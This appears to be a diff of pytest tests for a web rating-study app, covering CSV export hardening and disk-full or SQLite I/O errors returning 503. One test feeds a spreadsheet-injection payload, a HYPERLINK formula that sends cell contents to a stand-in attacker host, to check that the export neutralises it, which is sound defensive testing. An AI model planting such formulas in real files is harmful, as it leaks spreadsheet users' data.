@@ -31,6 +31,7 @@ from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
 from normlab.cli import app as cli_app
+from normlab.core.csvio import read_csv_rows
 from normlab.core.errors import InputError
 from normlab.web import create_app
 from normlab.web.guard import LoginLimiter
@@ -459,6 +460,33 @@ def test_parallel_exports_of_two_raters_whose_names_share_a_slug_never_mix(runs:
     assert len(files) == 2 and all(path.suffix == ".csv" for path in files)
 
 
+def test_a_raters_formula_reaches_the_owners_csv_as_text_and_reads_back(runs: Path) -> None:
+    """Notes starting ``=``, ``+``, ``-`` or ``@`` reached the ratings CSV the owner is told to
+    open in a spreadsheet, where they ran as formulas (issue 32, item 5). The export marks
+    them as text (OWASP), quotes every cell, and the system's import reads the notes back."""
+    app = create_app(settings_for(runs))
+    owner = local(app)
+    study, invite = new_study(owner, runs)
+    rater, item = join(app, invite, "ann")
+    notes = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    while 'id="finished"' not in item.text:
+        action = re.search(r'action="(/rate/[^"]+)"', item.text)
+        assert action
+        token = csrf(rater, action.group(1))
+        item = rater.post(action.group(1), data={"answer": "yes", "notes": notes, "csrf": token})
+    link = re.search(r'href="([^"]+\.csv)"', owner.get(study).text)
+    assert link
+    exported = owner.get(link.group(1)).text
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
+    assert rows and all(row["human_notes"] == "'" + notes for row in rows)
+    header = exported.splitlines()[0]
+    assert header.startswith('"item_id","') and header.endswith('"')  # every cell quoted
+    assert len(re.findall(r'^"A\d{4}","', exported, flags=re.MULTILINE)) == len(rows)
+    path = runs / "filled.csv"
+    path.write_text(exported, encoding="utf-8")
+    assert {row["human_notes"] for _, row in read_csv_rows(path, ("item_id",))} == {notes}
+
+
 # 4. File modes
 
 
@@ -511,15 +539,28 @@ def test_harmless_input_never_answers_500(runs: Path) -> None:
     assert stranger.get("/login", headers=cookie).status_code == 200
 
 
+def sqlite_error(message: str, code: int, name: str) -> sqlite3.OperationalError:
+    """An error as SQLite raises it, with its extended code and name (Python 3.11 sets both)."""
+    error = sqlite3.OperationalError(message)
+    error.sqlite_errorcode, error.sqlite_errorname = code, name
+    return error
+
+
 @pytest.mark.parametrize(
-    "error",
+    ("error", "said"),
     [
-        OSError(errno.ENOSPC, "No space left on device"),
-        sqlite3.OperationalError("database or disk is full"),
+        (OSError(errno.ENOSPC, "No space left on device"), "is full"),
+        (sqlite3.OperationalError("database or disk is full"), "is full"),
+        (sqlite_error("database or disk is full", 13, "SQLITE_FULL"), "is full"),
+        # Near full, PRAGMA synchronous=FULL's fsync or a WAL write fails first: these were
+        # 500s, and study creation failed so even at 40 KB free.
+        (sqlite_error("disk I/O error", 1034, "SQLITE_IOERR_FSYNC"), "could not be written"),
+        (sqlite_error("disk I/O error", 778, "SQLITE_IOERR_WRITE"), "could not be written"),
+        (sqlite3.OperationalError("disk I/O error"), "could not be written"),
     ],
 )
 def test_a_full_state_disk_is_a_503_naming_the_folder(
-    runs: Path, monkeypatch: pytest.MonkeyPatch, error: Exception
+    runs: Path, monkeypatch: pytest.MonkeyPatch, error: Exception, said: str
 ) -> None:
     app = create_app(settings_for(runs))
     _, invite = new_study(local(app), runs)
@@ -533,7 +574,30 @@ def test_a_full_state_disk_is_a_503_naming_the_folder(
     monkeypatch.setattr(Store, "rate", full)
     response = rater.post(action.group(1), data={"answer": "yes", "csrf": csrf(rater, "/")})
     assert response.status_code == 503
-    assert "is full" in response.text and str(runs / ".normlab") in response.text
+    assert said in response.text and str(runs / ".normlab") in response.text
+
+
+def test_a_disk_io_error_on_opening_the_store_is_a_503_for_a_new_study(
+    runs: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The probe's own path: every request opens the store and sets ``synchronous=FULL``;
+    on a nearly full disk that statement raised SQLITE_IOERR and making a study was a 500."""
+    owner = local(create_app(settings_for(runs)))
+    token = csrf(owner, "/studies")
+    real = sqlite3.connect
+
+    class Failing(sqlite3.Connection):
+        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:
+            if sql == "PRAGMA synchronous=FULL":
+                raise sqlite_error("disk I/O error", 1034, "SQLITE_IOERR_FSYNC")
+            return super().execute(sql, *args)
+
+    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: real(*a, **k, factory=Failing))
+    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "n": "3", "csrf": token}
+    response = owner.post("/studies", data=data)
+    assert response.status_code == 503, response.text
+    assert f"The state folder {runs / '.normlab'} could not be written" in response.text
+    assert not list((runs / ".normlab" / "studies").glob(".new-*"))  # nothing half-made left
 
 
 def test_served_files_never_show_a_password_written_before_redaction(runs: Path) -> None:
